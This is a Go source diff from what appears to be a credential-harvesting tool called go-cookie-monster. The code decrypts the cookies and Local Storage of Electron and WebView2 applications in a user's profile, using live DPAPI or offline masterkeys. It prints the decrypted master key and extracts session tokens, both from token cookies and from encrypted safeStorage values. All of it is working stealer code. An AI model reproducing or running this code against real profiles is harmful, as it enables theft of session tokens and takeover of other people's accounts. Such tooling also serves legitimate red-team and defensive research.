@@ -0,0 +1,132 @@
+package cookiemonster
+
+import (
+	"encoding/base64"
+	"fmt"
+	"go-cookie-monster/pkg/browsers"
+	"go-cookie-monster/pkg/decrypt"
+	"go-cookie-monster/pkg/dpapi"
+	"go-cookie-monster/pkg/webstorage"
+	"log"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+)
+
+// ProcessAppsMode decrypts the cookies and Local Storage of the known Electron and WebView2
+// applications in a user's profile directory, with live DPAPI or offline masterkeys
+func ProcessAppsMode(userProfile string, dpapiOpts DPAPIOptions, outputDir string) {
+	var err error
+	if userProfile == "" {
+		userProfile, err = getUserProfile()
+		if err != nil {
+			log.Fatalf("Error finding user profile directory: %v", err)
+		}
+	}
+
+	masterKeys := loadOfflineMasterKeys(dpapiOpts)
+
+	var results []ProfileResult
+	for _, app := range browsers.Apps {
+		for _, userDataDir := range app.UserDataPaths(userProfile) {
+			results = append(results, collectApp(app, userDataDir, masterKeys)...)
+		}
+	}
+	if len(results) == 0 {
+		log.Fatalf("no known applications found in %s", userProfile)
+	}
+
+	writeProfileResults(results, userProfile, outputDir)
+}
+
+// collectApp decrypts every profile of an app's user data directory and pulls out its tokens
+func collectApp(app browsers.App, userDataDir string, masterKeys *dpapi.MasterKeyCache) []ProfileResult {
+	fmt.Printf("\n[*] Processing %s user data directory: \"%s\"\n", app.Name, userDataDir)
+	appKeys := appKeys(userDataDir, masterKeys)
+
+	var results []ProfileResult
+	for _, profile := range browsers.ListProfiles(userDataDir) {
+		profileDir := filepath.Join(userDataDir, profile)
+		result := decryptProfile(profileDir, appKeys)
+		result.Browser = app.Name
+		result.UserDataDir = userDataDir
+		result.Application = browsers.ApplicationPath(userDataDir)
+		result.Profile = profile
+
+		for _, c := range result.Cookies {
+			if app.IsTokenCookie(c.Name, c.Domain) {
+				result.Tokens = append(result.Tokens, AppToken{Source: "cookie", Name: c.Name, Host: c.Domain, Value: c.Value})
+			}
+		}
+
+		records, err := webstorage.ReadLocalStorage(profileDir)
+		if err != nil && !os.IsNotExist(err) {
+			result.Errors = append(result.Errors, fmt.Sprintf("local storage: %v", err))
+		}
+		result.Storage = records
+		result.Tokens = append(result.Tokens, storageTokens(app, records, appKeys)...)
+
+		fmt.Printf("[+] %s/%s: %d cookies, %d storage records, %d tokens\n", app.Name, profile, len(result.Cookies), len(result.Storage), len(result.Tokens))
+		results = append(results, result)
+	}
+
+	return results
+}
+
+// appKeys returns the keys an app's values are decrypted with: the Local State key when the
+// app has one, with DPAPI as the fallback for values encrypted directly with CryptProtectData
+func appKeys(userDataDir string, masterKeys *dpapi.MasterKeyCache) []decrypt.Key {
+	provider := newKeyProvider(masterKeys, nil)
+
+	var found []decrypt.Key
+	if content, err := os.ReadFile(filepath.Join(userDataDir, "Local State")); err == nil {
+		if masterKey, err := fetchMasterKey(content, provider); err != nil {
+			log.Printf("[-] Error decrypting master key: %v", err)
+		} else if keyBytes, err := parseKey(masterKey); err == nil {
+			fmt.Printf("[+] Master Key: %s\n", masterKey)
+			found = append(found, decrypt.WindowsKey(keyBytes))
+		}
+	} else {
+		fmt.Println("[*] No Local State, values are DPAPI-protected")
+	}
+
+	return withDPAPI(found, provider.Unprotect)
+}
+
+// encryptedStorageValue matches a safeStorage-encrypted value inside a Local Storage entry
+var encryptedStorageValue = regexp.MustCompile(`[A-Za-z0-9+/]+={0,2}`)
+
+// storageTokens returns the app's Local Storage tokens. Values starting with the app's
+// encrypted prefix are base64 safeStorage blobs and are decrypted with the app's keys.
+func storageTokens(app browsers.App, records []webstorage.Record, appKeys []decrypt.Key) []AppToken {
+	var tokens []AppToken
+	for _, r := range records {
+		key, _ := r.Key.(string)
+		value, _ := r.Value.(string)
+
+		if app.EncryptedStoragePrefix != "" && strings.Contains(value, app.EncryptedStoragePrefix) {
+			for _, part := range strings.Split(value, app.EncryptedStoragePrefix)[1:] {
+				encoded := encryptedStorageValue.FindString(part)
+				blob, err := base64.StdEncoding.DecodeString(encoded)
+				if err != nil {
+					continue
+				}
+				for _, k := range appKeys {
+					if plaintext, err := decrypt.DecryptValue(k, blob); err == nil {
+						tokens = append(tokens, AppToken{Source: "localStorage", Name: key, Host: r.Origin, Value: string(plaintext)})
+						break
+					}
+				}
+			}
+			continue
+		}
+
+		for _, tokenKey := range app.TokenStorageKeys {
+			if key == tokenKey && value != "" {
+				tokens = append(tokens, AppToken{Source: "localStorage", Name: key, Host: r.Origin, Value: strings.Trim(value, `"`)})
+			}
+		}
+	}
+	return tokens
+}